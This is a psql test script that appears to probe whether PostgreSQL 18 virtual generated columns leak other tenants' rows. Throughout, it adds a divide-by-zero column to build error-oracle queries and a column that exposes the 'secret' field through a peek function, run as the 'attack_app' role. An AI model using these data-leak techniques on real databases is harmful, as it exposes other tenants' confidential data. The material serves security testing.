-- as: owner superuser
-- From PostgreSQL 18 on a virtual column is computed where it is read, hence maybe over another tenant's row.
SELECT current_setting('server_version_num')::int >= 180000 AS modern \gset
\set ON_ERROR_ROLLBACK on
SET enable_indexscan = off;
BEGIN;
\if :modern
ALTER TABLE shop.customers ADD ratio int GENERATED ALWAYS AS (1000 / (balance - 987650007)) VIRTUAL, ADD long text GENERATED ALWAYS AS (secret || balance) VIRTUAL;
\endif
SET LOCAL ROLE attack_app;
SELECT shop.oracle('SELECT id FROM shop.customers WHERE ratio >= 0', '22012');
SELECT shop.oracle('SELECT id FROM shop.customers WHERE balance > 0 AND ratio >= 0', '22012');
SELECT shop.oracle('SELECT id FROM (SELECT id, ratio FROM shop.customers) s WHERE ratio = 1', '22012');
SELECT shop.oracle('SELECT count(*) FROM shop.customers GROUP BY ratio HAVING ratio > 0', '22012');
SELECT id FROM shop.customers WHERE shop.peek(long);
SELECT shop.oracle('SELECT a.id FROM shop.customers a JOIN shop.customers b USING (ratio)', '22012');
ROLLBACK;
SELECT id FROM shop.lines WHERE shop.peek(loud);
